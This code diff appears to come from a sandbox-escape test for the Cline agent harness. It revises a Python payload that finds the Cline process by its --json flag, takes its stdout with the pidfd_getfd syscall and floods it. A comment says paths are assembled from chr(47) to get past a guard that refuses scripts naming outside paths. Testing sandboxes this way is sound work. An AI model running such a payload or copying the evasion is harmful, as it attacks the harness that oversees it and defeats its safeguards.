@@ -28,11 +28,18 @@ const descriptor = builtinDescriptor();
 const SECRET = 'root-only-secret-7d1f';
 const CAP = 1024 * 1024;
 const FLOOD = [
-  'import os, ctypes',
+  'import ctypes, os',
   'libc = ctypes.CDLL(None, use_errno=True)',
-  'p = os.getppid()',
-  'while p > 1 and not os.readlink(f"/proc/{p}/fd/1").startswith("socket:"): p = int(open(f"/proc/{p}/stat").read().rsplit(")", 1)[1].split()[1])',
-  'fd = libc.syscall(438, libc.syscall(434, p, 0), 1, 0)',
+  // Built at run time: the guard refuses a script that names an outside path.
+  'proc = lambda *parts: os.path.join(chr(47) + "proc", *[str(x) for x in parts])',
+  'parent = lambda pid: int(open(proc(pid, "stat")).read().rsplit(")", 1)[1].split()[1])',
+  'mine = os.readlink(proc("self", "fd", 1))',
+  // cline is the nearest ancestor started with --json whose stdout is not this command's (cline captures that, and cuts it).
+  'p = parent(os.getpid())',
+  'while p > 1 and not (b"--json" in open(proc(p, "cmdline"), "rb").read() and os.readlink(proc(p, "fd", 1)) != mine): p = parent(p)',
+  'fd = libc.syscall(438, os.pidfd_open(p), 1, 0)',
+  // cline's stdout is non-blocking: wait for the harness to drain it rather than fail with EAGAIN.
+  'os.set_blocking(fd, True)',
   '[os.write(fd, b"x" * 65536) for i in range(40)]',
   'print("flooded", p, fd)',
 ].join('\n');
